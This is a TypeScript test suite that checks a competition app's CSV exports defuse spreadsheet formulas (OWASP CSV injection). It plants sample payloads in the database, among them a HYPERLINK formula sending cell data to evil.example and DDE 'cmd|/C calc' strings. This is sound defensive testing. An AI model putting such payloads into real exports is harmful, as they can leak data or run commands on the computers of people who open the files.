import { parse } from 'csv-parse/sync';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { freshApp, type TestApp } from '../support/app.ts';
import { correctMark } from '../../src/desk/commands.ts';
import { organizerClient } from '../support/desk.ts';
import { lockedFixture, publishWelding, type ResultsFixture } from '../support/results.ts';
import type { TestClient } from '../support/client.ts';

/**
 * Every CSV the app serves goes through one writer, which defuses formula cells (OWASP CSV
 * injection). Names can no longer be typed with a leading = + - @ (src/domain/names.ts), so the
 * formulas are planted straight in the database, as a database from before that rule holds them.
 */
interface Context {
  target: TestApp;
  fixture: ResultsFixture;
  organizer: TestClient;
}

const PLANTED = {
  name: '=HYPERLINK("http://evil.example/?x="&A1,"张伟")',
  organization: '+cmd|\' /C calc\'!A0',
  aspect: '-2+3+cmd|\' /C calc\'!A0',
  judge: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  reason: '=1+1',
};

const exports = suite<Context>('CSV exports defuse formulas', {} as Context);
exports.before.each(async (ctx) => {
  ctx.target = await freshApp();
  const { db } = ctx.target;
  const f = (ctx.fixture = await lockedFixture(db));
  const zhang = await db.contestant.findFirstOrThrow({ where: { name: '张伟' } });
  await db.contestant.update({ where: { id: zhang.id }, data: { name: PLANTED.name } });
  await db.organization.update({ where: { id: zhang.organizationId }, data: { name: PLANTED.organization } });
  await db.aspect.update({ where: { id: f.judgementId }, data: { name: PLANTED.aspect } });
  await db.account.update({ where: { id: f.judges[3].accountId }, data: { displayName: PLANTED.judge } });
  // A correction after the lock, its reason a formula (the form trims, so no leading tab here).
  const corrected = await correctMark(db, { accountId: f.judges[4].accountId }, f.roundId, {
    code: f.codes.李强, aspectId: f.judgementId, judge: 3, mark: { state: 'scored', value: 3 }, reason: PLANTED.reason,
  });
  assert.ok(corrected.ok, JSON.stringify(corrected));
  await publishWelding(db, f);
  ctx.organizer = await organizerClient(ctx.target);
});
exports.after.each(async (ctx) => { await ctx.target.close(); });

/** The mark details carry names only when an organizer asks by POST (from the desk's button). */
const BY_POST = new Set(['details']);

async function cells(client: TestClient, url: string, byPost = false): Promise<string[][]> {
  const response = byPost ? await client.post(url, {}) : await client.get(url);
  assert.is(response.status, 200, url);
  assert.match(response.headers.get('content-type') ?? '', 'text/csv', url);
  return parse((await response.text()).replace(/^\uFEFF/, ''), { relax_column_count: true });
}

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)$/;

exports('no cell of any CSV export starts a formula; the planted ones are quoted, numbers stay numbers', async (ctx) => {
  const f = ctx.fixture;
  const urls = {
    registration: `/events/${f.eventId}/registration.csv`,
    results: `/skills/${f.skillId}/results.csv`,
    markLog: `/skills/${f.skillId}/mark-log.csv`,
    details: `/skills/${f.skillId}/mark-details.csv`,
    scheme: `/skills/${f.skillId}/scheme.csv`,
  };
  const expected: Record<keyof typeof urls, string[]> = {
    registration: [PLANTED.name, PLANTED.organization],
    results: [PLANTED.name, PLANTED.organization],
    markLog: [PLANTED.aspect, PLANTED.judge, PLANTED.reason],
    details: [PLANTED.name, PLANTED.organization, PLANTED.aspect],
    scheme: [PLANTED.aspect],
  };
  let defused = 0;
  for (const [key, url] of Object.entries(urls) as [keyof typeof urls, string][]) {
    const all = (await cells(ctx.organizer, url, BY_POST.has(key))).flat();
    for (const cell of all) {
      assert.ok(!FORMULA_START.test(cell) || PLAIN_NUMBER.test(cell), `${key}: ${JSON.stringify(cell)}`);
    }
    for (const planted of expected[key]) {
      assert.ok(all.includes(`'${planted}`), `${key} carries ${JSON.stringify(planted)} as text`);
      defused++;
    }
    assert.ok(all.some((cell) => PLAIN_NUMBER.test(cell)), `${key}: number cells are written as they are`);
  }
  assert.is(defused, 11);
});

exports.run();
